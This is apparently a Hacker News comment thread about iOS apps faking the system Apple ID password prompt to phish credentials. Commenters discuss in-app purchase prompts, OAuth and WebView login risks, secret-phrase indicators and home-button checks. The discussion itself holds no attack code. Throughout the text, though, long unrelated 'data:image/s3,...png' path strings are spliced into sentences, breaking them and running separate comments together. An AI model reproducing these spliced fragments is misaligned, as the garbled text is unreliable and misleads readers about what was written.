It was a mistake to ever have these prompts -- the most they should have said is "go to thesettings app and re-enter this information" or something similar. Now we're stuck relying on Apple's App Store screening to shield people from this vector. I'll continue my policy of always ignoring these popups, so hopefully I'll be safe.

Yup. And if you develop apps and test in-app purchases in their iTunes sandbox, you will get these CONSTANTLY. Like, every time you change what network your device is connected to.

Yes. I hate testing in-app purchases, I will never do it on a device I actually use because it becomes a nightmare, especially if it is a recurring subscription. Endless password prompts.

In fairness, this isn't unique to Apple devices. Most people I know turn off Windows UAC controls for exactly this reason. I'm sure the same is true of Android or any other devices too.

Probably, but I don't really have much experience with those, so I can't really speak about them.

I think OAuth and single sign on is great but I always thought OAuth had a similar issue to this. You're on a random website, you click to login via e.g. Google and then enter your Google password into the login dialog that appears. It's asking wayyy too much from regular users to be able to tell if this is safe or not. I'm really surprised there haven't been more phishing attempts where a fake login is shown which saves your password.

It's an even worse issue in e.g. Android apps that use Google or Facebook for logins as you can't tell what domain is serving the login prompt like you can in a desktop browser.

One of those recent widespread google docs attack used this strategy to get into lots of business g accounts.


That's rather specifically not the same attack.

One uses the normal OAuth flow and mis-represents a valid application identity in order to get the user to grant permissions normally. The other flow, thatthe grandparent refersto, redirects users to a phishing domain and steals credentials.

I'm almost ok in a web browser, at least there is a reasonable way of being 80% sure it's safe, but the webview version is my pet peeve... not even a power user could be able to tell...

> I'm almost ok in a web browser, at least there is a reasonable way of being 80% sure it'ssafe, but the webview version is my pet peeve

I use a password manager on desktop so when it fills in the password for me I'm confident I'm safe. Asking regular users to be sure a real browser pop-up is being shown and the expected domain is shown is asking too much though in my opinion.

I constantly have to verify my iCloud password, despite having 2FA and Touch ID enabled. At least once a week on at least one of my three iOS devices. It's such a constant chore I would probably fall for this phishing attack.

I believe it is because my email address is a relatively common firstname@gmail.com, and people are trying to recover or guess the password. Perhaps there's some misguided attempt on Apple's side to increase the security if there's lots of failed attempts. I also get constant Facebook recovery attempts (at least they have a"Didn't request this change?" link), mortgage emails, bills, appointments, intra-family email threads, etc. I don't think they're malicious, tons of people are just fundamentally unable to type their email address correctly into a field.

Why not ask users to set a unique phrase to identify themselves when you set up the OS? If this phrase isn't in the box that asks for a master password, you know it's phishing. Hell, just put that IN the copy on the master password box.

"If the words below do not match your unique phrase, do not enter your password."

If I see "Green eggs and ham", I know it's safe to put in my password.

Yahoo used that, except with an image, not a phrase. And then one day yahoo.com didn't show that image anymore.

What do I do then, as a user?

At this time, I didn't care much about my yahoo account, so I simply didn't log in anymore; but in general, this solution leaves the user alone. You need to give them a potential remedy when that happens.

It's a good idea, but a security solution that relies on users noticing when something is absent is not exactly airtight.

No solution is airtight, but if it makes it better for 10% of users without making it worse for the other 90%, it seems like a good idea.

My guess is that a large % of unsavvy userswould put their password in that field, making things much, much worse.

Huh? How? Those users would be entering in their passwords in the dialogs today.

Adding a visual indication of a secure dialog can at least help the power users, while not changing anything for the ones that don't know the difference.

EDIT: Oh sorry, I seen what you are saying now - entering password into the phrase field. Instead, just make it an image that the user selects, or even creates.

It will just be used for blame shifting.

"You didn't notice one of the dozen popups asking for credentialslacked your magical hidden phase YOUR FAULT!"

If Apple were going to explore a strategy to fix this, they would likely be better off redirecting the user out of the app before asking for credentials, or prompting them in notifications/home screen only.

Even better, add an indicator light to the hardware that shows the OS is asking and not an app(although this suffers from the same problem that users need to notice something is absent).

This is the approach my bank's login uses.

Couldn't an app screenshot the screen after asking you to authenticate, and thus capture the phrase?

AFAIK, it's not possible for a sandboxed app to take a screenshot without user consent.

There are apps (obviously they're banned in the app store) that can record the screen (not just within the app, but in general).

On iOS the test of pressing the home button and see if the app goes in background seems a pretty strong one.

Perhaps in a future Apple can make you press the home button as part of the verification, so it’s kind of implicit.

this is perfect, the password field could be disabled until the home button is pressed >> "press the home button to enter the password"

I think this is the best solution so far!Perhaps when you put your finger on the home button it would read your fingerprint and authenticate you like that and the user wouldn't have to enter their password into a box that might steal it..

I can spend thousands using just my fingerprint, but authorising my Apple ID so I can buy a 99p app or login into iMessage requiresmy Apple ID password...

It's already like that - I assume the phishing only works for people that don't use fingerprint, or don't notice the difference.

Good luck doing it on iphone x.

crap, maybe power button then?

This would work. Sleep/wake is already used for Apple Pay on iPhone X.

To the author: the double quote characters in your phishing dialog are straight ASCII " but the quotes in the official dialog are Unicode open/close double quote characters.

Yeah, thanks for the note, I noticed that but was too lazy to re-do the screenshots.

Ok, but that's hardly the point...

I know Apple uses curly quotes for EVERYTHING so that raises an instant alarm in my head.

In that case you're probably more secure than 99% of apple users. I don't think more than 1% of iphone users would've noticed the difference.

Yup. Everyone who had accidentally edited a JSON file in TextEdit knows this.

There are so many random popups in iOS to authenticate to itunes, app store, facetime, icloud, etc that I am amazed widespread phishing strategies don't already target them

Yes. This is the most horrible UX I have ever seen, especially from a company as security-sensitive as Apple is. In my experience, none of the mitigations given by the article are actually helping in some of the cases:

> Hit the home button, and see if the app quits:

if the prompt was caused by some in-app purchase related framework having to re-check something, then the app will quit and the prompt will go away.> Don't enter your credentials into a popup, instead, dismiss it, and open the Settings app manually

if the prompt was related to that in-app purchase, the prompt will not re-appear inside of the Settings app. If it's because of something else (no idea what - nothing tells you), then it's still asynchronous and might or might not appear after a random delay.

Anyways. Overall, Apple is slowly getting better at this, reducing the amount of magic prompts, though during the beta period and after updates, it might still happen here and then.

Apple, if you're listening: You need to fix this. Centralise this in Settings and prompt users to go there. And do everything in your power to not having to re-prompt the user.

Every time I'm seeing this prompt, I'm wondering where I'm being phished or not, especially the really bad one that's not listing the Apple ID (my apple-id is using an apple id specific email address I'm not using anywhere else, so if I'm seeing the address, it's very, very likely legit).

This is the most horrible UX I have ever seenYou must lead a very sheltered existence then ;-)

> his is the most horrible UX I have ever seen

Enjoy your bank logins https://twitter.com/lukew/status/908729507086950400

> But, but, but, why is the . symbol within the ", is this all fake?

Fun fact for those who (like me) didn't know for a long time... technically "gmail.com." is actually the domain name for Gmail. It's called the fully qualified domain name (FQDN), akin to an absolute domain name (as opposed to relative to the current subnet).

But this is more related to the American English style of placing punctiation inside the quotes, isn't it? [1]As a German (we don't do this), I also didn't like that when I saw it the first time.

[1] http://www.thepunctuationguide.com/british-versus-american-s...

Indeed, and I was not trying to suggest the punctuation was due to them intentionally trying to write an FQDN. I was just mentioning a fun fact that the notation reminded me of.

Do you have a source for this? I've not heard this before. TheWikipedia article on FQDN doesn't mention ti.

> Do you have a source forthis? I've not heard this before. The Wikipedia article on FQDN doesn't mention it.

Actually it's right there in the Wikipedia article [1]...

The DNS root is unnamed, expressed as the empty label terminated by the dot. This is most notable in DNS zone files in which a fully qualified domain name must be specified with a trailing dot. For example, somehost.example.com. explicitly specifies an absolute domain name that ends with the empty top level domain label.

[1] https://en.wikipedia.org/wiki/Fully_qualified_domain_name#Sy...

I learned this while configuring Bind9 for the first time: https://wiki.debian.org/Bind9#A.2Fetc.2Fresolv.conf_File

This is also an issue with in app web browsers. AFAIK anin app broswer's data can one way or another be completely accessed by the app containing the browser.

as an example, Tinder requires Facebook login. To do this it launches a WebView. it could be faking that view to get your Facebook credientials. it could also just get them direct from the WebView .

I know tons of apps depend on WebViews but I kind of wish there was a solution . maybe Apple only allowing the WebView to access certain domains and no 3rd party domains and then requiring the app to actually launch safari not use a WebView. Of course I suppose that doesn't help as the app can still display a fake Facebook login.

Facebook changed their SDK login behaviour to open the Facebook app, or Safari if it's not installed. If you see an in-app webview login for Facebook, you are being phished. However, 99% of users wouldn't know to check for this.

Dialogs owned by the OS should probably pull the drawer down and display in there. The simplest way is not allowing the application to access some sacred part of the UI, and putting system stuff there. Same thing web browsers do.

A phishing dialog could fake the drawer. Apps can and do regularly use the full screen which is something web pages don't do and which will require extra user confirmation for precisely this reason.

Denying apps full screen access is very detrimental to the overall UX so that's not going to happen.

The other solution is to have apple never prompt for that password aside of during the initial setup process after installing an update.

Then you could at least give the advice to never enter your Apple ID-Password anywhere unless you've just re-installed the OS.There are other visual solutions: show the app switcher, or go to the home screen and return when the modal is dismissed. I agree apps can fake some things, butit's not an unsolvable problem.Show the app switcher is a good idea. It could make sense visually and would have information that the phishing app couldn't get (thesurfaces of other apps).

Okay, that’s pretty slick.

I guess lucky for me I always enter my password in the Settings app directly, because I don’t know my password and the iPhone won’t let me go to a password manager when it gives me this popup without warning.

Only password outside of my password manager is the Apple one. Exactly because I need it so often that it would be really big issue for meif I have to loose 30 seconds every time I want to enter it.

Applicationsare open for YC Winter 2023

Guidelines | FAQ | Lists | API | Security | Legal | Apply to YC | Contact